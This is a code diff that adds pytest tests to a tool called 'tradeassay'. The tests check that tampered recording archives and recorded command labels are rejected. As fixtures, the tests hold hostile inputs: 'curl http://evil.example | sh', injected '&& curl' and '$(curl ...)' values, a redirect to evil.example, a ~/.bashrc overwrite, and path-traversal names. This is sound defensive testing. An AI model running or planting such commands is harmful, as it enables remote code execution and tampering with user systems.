@@ -5,6 +5,7 @@ from __future__ import annotations
 import hashlib
 import json
 import lzma
+import re
 import tarfile
 from collections.abc import Callable
 from pathlib import Path
@@ -18,8 +19,10 @@ from tradeassay.core.hashing import canonical_json
 from tradeassay.llm import CassetteMismatch
 from tradeassay.runs.recordings import (
     changed_facts,
+    command_of,
     differences,
     find_recording,
+    is_our_command,
     list_recordings,
     open_recording,
     pack_recording,
@@ -180,6 +183,21 @@ def words_among_versions(content: dict[str, bytes]) -> None:
     content["manifest.json"] = json.dumps(manifest).encode()
 
 
+def scores_of_nothing(content: dict[str, bytes]) -> None:
+    content["scores.json"] = b'{"return": NaN}'
+
+
+def cheap_answers(content: dict[str, bytes]) -> None:
+    for name in [one for one in content if one.startswith("models/")]:
+        content[name] = re.sub(rb'"output_tokens":\d+', b'"output_tokens":1', content[name])
+
+
+def endless_seeds(content: dict[str, bytes]) -> None:
+    manifest = json.loads(content["manifest.json"])
+    manifest["spec"]["seeds"] = list(range(10_000))
+    content["manifest.json"] = json.dumps(manifest).encode()
+
+
 NOT_OURS = "is not one of tradeassay alone"
 
 
@@ -191,6 +209,13 @@ NOT_OURS = "is not one of tradeassay alone"
         (said_on_the_label(command="curl http://evil.example | sh"), NOT_OURS),
         (said_on_the_label(command="tradeassay record a#b && curl http://evil.example"), NOT_OURS),
         (said_on_the_label(command="tradeassay record $(curl http://evil.example)"), NOT_OURS),
+        (said_on_the_label(command="tradeassay data remove everything"), NOT_OURS),
+        (said_on_the_label(command="tradeassay record x -a ./theirs.py:Agent"), NOT_OURS),
+        (said_on_the_label(command="tradeassay record x -o ~/.bashrc"), NOT_OURS),
+        (said_on_the_label(command="tradeassay record x --base-url http://evil.example/v1"), NOT_OURS),
+        (scores_of_nothing, "scores.json cannot be read"),
+        (cheap_answers, "tokens or dollars that cannot be true"),
+        (endless_seeds, "the episodes of its manifest are not those of its spec"),
         (scores_twice, "scores.json says one thing twice"),
         (words_among_versions, "its manifest names a version 'what somebody else wrote'"),
         (foreign_file, "news.txt is not part of a recording"),
@@ -258,6 +283,57 @@ def test_an_archive_has_one_label_and_no_endless_headers(shelf: Path, tmp_path: 
     packed_as(shelf, [(header, b"4294967296 comment="), *(named(*one) for one in content.items())])
     with pytest.raises(RunError, match="more than 64 MB"):
         open_recording(shelf, tmp_path / "home")
+
+
+@pytest.mark.parametrize("names", [[""], ["a", "a/b"], ["a/b", "a"], ["a" * 300], ["a/" * 600 + "b"]])
+def test_files_that_cannot_be_written_are_refused_in_words(shelf: Path, tmp_path: Path, names: list[str]) -> None:
+    with tarfile.open(shelf, "w:xz", format=tarfile.PAX_FORMAT) as archive:
+        for name in names:
+            archive.addfile(tarfile.TarInfo(name))
+    with pytest.raises(RunError, match=r"not a plain file|twice"):
+        open_recording(shelf, tmp_path / "home")
+
+
+def test_a_label_names_no_file_outside_its_recording(shelf: Path, tmp_path: Path) -> None:
+    """Some files of the system never end, and what is in the others is nobody's business."""
+    content = members(shelf)
+    label = json.loads(content["recording.json"])
+    for outside in ("/proc/self/pagemap", "../../elsewhere"):
+        content["recording.json"] = json.dumps({**label, "files": {outside: "0" * 64}}).encode()
+        write_packed(shelf, content)
+        with pytest.raises(RunError, match="names a file that cannot be in it"):
+            open_recording(shelf, tmp_path / "home")
+    assert not list((tmp_path / "home" / "recordings").iterdir())
+
+
+@pytest.mark.parametrize(
+    ("agent", "params"), [("file", {"path": "{}", "name": "X"}), ("python", {"class": "{}:X"})]
+)
+def test_a_recording_decides_nothing_about_what_is_executed(
+    shelf: Path, tmp_path: Path, agent: str, params: dict[str, str]
+) -> None:
+    ran = tmp_path / "ran"
+    theirs = tmp_path / "theirs.py"
+    theirs.write_text(f"open({str(ran)!r}, 'w')\nclass X:\n    def reply(self, request): return ''\n")
+    content = members(shelf)
+    manifest = json.loads(content["manifest.json"])
+    filled = {key: value.format(theirs) for key, value in params.items()}
+    manifest["spec"]["agents"].append({"name": agent, "label": "theirs", "params": filled})
+    content["manifest.json"] = json.dumps(manifest).encode()
+    label = json.loads(content["recording.json"])
+    label["files"]["manifest.json"] = hashlib.sha256(content["manifest.json"]).hexdigest()
+    content["recording.json"] = json.dumps(label).encode()
+    write_packed(shelf, content)
+    opened = open_recording(shelf, tmp_path / "home")
+    with pytest.raises((RunError, CassetteMismatch)):
+        replay_recording(opened, tmp_path / "again")
+    assert not ran.exists()
+
+
+def test_a_recorded_command_says_nothing_of_its_machine() -> None:
+    said = command_of(["record", "/home/me/runs/one", "-o", "/home/me/one.tar.xz", "--engine", "a b"])
+    assert said == "tradeassay record one -o one.tar.xz --engine 'a b'"
+    assert is_our_command(said)
 
 
 def test_record_packs_a_run_that_was_played(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
